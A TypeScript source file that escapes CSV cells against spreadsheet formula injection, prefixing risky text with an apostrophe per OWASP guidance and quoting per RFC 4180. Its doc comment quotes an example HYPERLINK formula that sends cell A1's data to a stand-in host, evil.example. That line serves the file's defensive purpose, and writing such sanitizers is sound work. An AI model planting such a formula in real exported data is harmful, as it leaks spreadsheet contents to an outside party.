/**
 * CSV cells for every file the app writes. A spreadsheet runs a cell that begins with = + - @
 * (or tab / carriage return before one) as a formula, so a player named
 * `=HYPERLINK("http://evil.example/?"&A1,"click")` would run on the organizer's computer. Text
 * cells that begin with one of those get a leading `'` (OWASP's rule: shown, never run); numbers
 * are written as numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function csvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return "";
  const text = typeof value === "number" ? String(value) : FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Lines of cells as one CSV file (RFC 4180: CRLF line ends). */
export const csvFile = (rows: (string | number | null | undefined)[][]) => rows.map((r) => r.map(csvCell).join(",")).join("\r\n") + "\r\n";
